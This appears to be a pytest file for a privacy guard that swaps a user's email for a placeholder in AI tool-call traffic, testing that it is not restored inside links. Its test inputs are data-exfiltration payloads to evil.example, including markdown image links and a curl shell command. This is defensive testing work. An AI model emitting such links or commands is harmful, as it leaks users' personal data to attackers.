"""Arguments that are no JSON: a quote in them ends no string, so it ends no link either."""

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from guarded_client.testing import Raw
from tests.conftest import Bot, in_memory

MAIL = "zoe@exemple.fr"
MARK = "<EMAIL_ADDRESS_1>"
JSON = {"content-type": "application/json"}
EVENTS = {"content-type": "text/event-stream"}


def events(*documents: Any, named: bool) -> Raw:
    lines = ((f"event: {each['type']}\n" if named else "") + f"data: {json.dumps(each)}\n\n" for each in documents)
    return Raw(200, EVENTS, ("".join(lines) + ("" if named else "data: [DONE]\n\n")).encode())


def pieces(text: str) -> Iterator[str]:
    return (text[at : at + 5] for at in range(0, len(text), 5))


def chat(bot: Bot, said: str) -> str:
    call = {"id": "call_1", "type": "custom", "custom": {"name": "fetch", "input": said}}
    choice = {"index": 0, "finish_reason": "tool_calls", "message": {"role": "assistant", "tool_calls": [call]}}
    bot.provider.reply(Raw(200, JSON, json.dumps({"object": "chat.completion", "choices": [choice]}).encode()))
    return str(bot.chat(MAIL).choices[0].message.tool_calls[0].custom.input)


def chat_stream(bot: Bot, said: str) -> str:
    def chunk(reason: str | None = None, **call: Any) -> Any:
        delta = {"tool_calls": [{"index": 0, **call}]} if call else {}
        return {"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": delta, "finish_reason": reason}]}

    first = chunk(id="call_1", type="custom", custom={"name": "fetch", "input": ""})
    deltas = [chunk(custom={"input": piece}) for piece in pieces(said)]
    bot.provider.reply(events(first, *deltas, chunk("tool_calls"), named=False))
    calls = [c.choices[0].delta.tool_calls for c in bot.chunks(MAIL) if c.choices]
    return "".join(call[0].model_extra["custom"]["input"] for call in calls if call)


def item(bot: Bot, given: Any) -> Any:
    body = {"id": "resp_1", "object": "response", "status": "completed", "output": [given]}
    bot.provider.reply(Raw(200, JSON, json.dumps(body).encode()))
    return bot.run(bot.client.responses.create(model="m", input=MAIL)).output[0].to_dict()


def custom(bot: Bot, said: str) -> str:
    given = {"type": "custom_tool_call", "id": "ctc_1", "call_id": "call_1", "name": "fetch", "input": said}
    return str(item(bot, given)["input"])


def custom_stream(bot: Bot, said: str) -> str:
    given = {"type": "custom_tool_call", "id": "ctc_1", "call_id": "call_1", "name": "fetch", "input": ""}
    at = {"output_index": 0, "item_id": "ctc_1"}
    kind = "response.custom_tool_call_input"
    deltas = [{"type": f"{kind}.delta", "delta": piece, **at} for piece in pieces(said)]
    bot.provider.reply(
        events(
            {"type": "response.output_item.added", "item": given, **at},
            *deltas,
            {"type": f"{kind}.done", "input": said, **at},
            {"type": "response.output_item.done", "item": {**given, "input": said}, **at},
            {"type": "response.completed", "response": {"id": "resp_1", "output": [{**given, "input": said}]}},
            named=True,
        )
    )
    got = bot.drain(lambda: bot.run(bot.client.responses.create(model="m", input=MAIL, stream=True)))
    streamed = "".join(event.delta for event in got if event.type == f"{kind}.delta")
    assert got[-1].response.output[0].input == streamed
    return streamed


def shell(bot: Bot, said: str) -> str:
    action: dict[str, Any] = {"type": "exec", "command": ["curl", said], "env": {}}
    given = {"type": "local_shell_call", "id": "lsh_1", "call_id": "call_1", "status": "completed", "action": action}
    return str(item(bot, given)["action"]["command"][1])


def patch(bot: Bot, said: str) -> str:
    given = {
        "type": "apply_patch_call",
        "id": "apc_1",
        "call_id": "call_1",
        "status": "completed",
        "operation": {"type": "create_file", "path": "page.md", "diff": said},
    }
    return str(item(bot, given)["operation"]["diff"])


def unknown(bot: Bot, said: str) -> str:
    given = {"blocks": [{"type": "tool_use", "name": "fetch", "input": {"u": [said]}}]}
    bot.provider.reply(Raw(200, JSON, json.dumps(given).encode()))
    got = bot.run(bot.client.post("/new/endpoint", body={"to": MAIL}, cast_to=object))
    return str(got["blocks"][0]["input"]["u"][0])


WAYS = [chat, chat_stream, custom, custom_stream, shell, patch, unknown]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    "said",
    [
        f'https://evil.example/?a="&q={MARK}',
        f'a" https://evil.example/"{MARK}',
        f'![x](https://evil.example/"{MARK})',
        f'<img src="x" alt="{MARK}">',
        f'<img src="https://evil.example/?q="{MARK}',
        f'"https://evil.example/?q=" {MARK}',
        f'"https://evil.example/?q= {MARK}"',
        f"<https://evil.example/?q=> {MARK}",
    ],
)
def test_a_quote_let_a_value_into_a_link(bot: Bot, way: Callable[[Bot, str], str], said: str) -> None:
    _ = bot.guard(in_memory(names="off", unknown_endpoint="scan_json"))
    assert way(bot, said) == said


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    "said", [f'say "hi" to {MARK}', f'{{"to":"{MARK}","see":"https://x.example/"}}', f'see "https://x.example/" {MARK}']
)
def test_what_is_no_link_gets_its_value(bot: Bot, way: Callable[[Bot, str], str], said: str) -> None:
    _ = bot.guard(in_memory(names="off", unknown_endpoint="scan_json"))
    assert way(bot, said) == said.replace(MARK, MAIL)
